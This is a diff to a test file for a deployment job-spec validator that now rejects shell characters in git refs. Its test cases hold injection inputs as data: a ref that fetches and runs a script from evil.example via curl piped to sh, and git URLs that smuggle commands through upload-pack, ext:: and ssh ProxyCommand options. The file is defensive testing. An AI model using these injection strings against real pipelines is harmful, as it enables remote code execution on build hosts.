@@ -23,7 +23,7 @@ describe('checkJobSpec', () => {
     const checked = checkJobSpec({ ...good, command: 'cat secrets.yml', steps: [{ name: 'x', run: 'id' }], env: { A: '1' }, secrets: ['DB'], git: { ...good.git, uploadPack: 'sh' } });
     expect(checked.spec).toEqual(good);
     expect(checkJobSpec({ ...good, rollback: true }).spec).toEqual({ ...good, rollback: true });
-    // Any ref git allows passes: the agent only hands it to the steps as BITENVOY_REF.
+    // A ref git allows passes, unless a shell would act on its characters (the agent hands it to steps as BITENVOY_REF).
     expect(checkJobSpec({ ...good, ref: 'feature/#12-ü' }).spec?.ref).toBe('feature/#12-ü');
     expect(checkJobSpec({ ...good, git: { url: '/srv/git/acme/shop.git' } }).spec?.git.url).toBe('/srv/git/acme/shop.git');
   });
@@ -38,8 +38,9 @@ describe('checkJobSpec', () => {
     ['a URL that is an option', { git: { url: '--upload-pack=sh' } }, '`git.url`: expected an `https://`, `http://`, `ssh://`, `git://` or `file://` URL, or an absolute path, got "--upload-pack=sh"'],
     ['a transport that runs commands', { git: { url: 'ext::sh -c id' } }, '`git.url`: expected an `https://`, `http://`, `ssh://`, `git://` or `file://` URL, or an absolute path, got "ext::sh -c id"'],
     ['an ssh host that is an option', { git: { url: 'ssh://-oProxyCommand=id/x' } }, '`git.url`: expected'],
-    ['a ref that is an option', { ref: '-x' }, '`ref`: expected a branch or tag name like `main`, got "-x"'],
-    ['a ref git would not allow', { ref: 'main:refs/heads/x' }, '`ref`: expected a branch or tag name like `main`, got "main:refs/heads/x"'],
+    ['a ref that is an option', { ref: '-x' }, `\`ref\`: expected a branch or tag name like \`main\`, without shell characters ($ \` ; | & ' " < > ( ) { } !), got "-x"`],
+    ['a ref a shell would act on', { ref: '$(curl${IFS}-s${IFS}evil.example|sh)' }, `\`ref\`: expected a branch or tag name like \`main\`, without shell characters ($ \` ; | & ' " < > ( ) { } !), got "$(curl\${IFS}-s\${IFS}evil.example|sh)"`],
+    ['a ref git would not allow', { ref: 'main:refs/heads/x' }, `\`ref\`: expected a branch or tag name like \`main\`, without shell characters ($ \` ; | & ' " < > ( ) { } !), got "main:refs/heads/x"`],
     ['a number for a name', { repository: 42 }, '`repository`: expected `owner/name`, got a number'],
     ['a missing git', { git: undefined }, '`git.url`: expected an `https://`, `http://`, `ssh://`, `git://` or `file://` URL, or an absolute path, got nothing'],
     ['a huge string', { deploymentId: 'd'.repeat(1_000_000) }, `\`deploymentId\`: expected a deployment id of letters, digits, \`_\` and \`-\`, got "${'d'.repeat(60)}"… (1000000 characters)`],
@@ -66,7 +67,7 @@ describe('checkJobSpec', () => {
         '`deploymentId`: expected a deployment id of letters, digits, `_` and `-`, got nothing; ' +
         '`repository`: expected `owner/name`, got nothing; ' +
         '`environment`: expected an environment name of letters, digits, `.`, `_` and `-`, got nothing; ' +
-        '`ref`: expected a branch or tag name like `main`, got nothing; ' +
+        '`ref`: expected a branch or tag name like `main`, without shell characters ($ ` ; | & \' " < > ( ) { } !), got nothing; ' +
         '`sha`: expected a full 40-character commit SHA in lowercase hex, got nothing; ' +
         '`git.url`: expected an `https://`, `http://`, `ssh://`, `git://` or `file://` URL, or an absolute path, got nothing; ' +
         '`instructions`: expected a relative path inside the commit, like `bitenvoy.yml` or `deploy/bitenvoy.yml`, got nothing; ' +
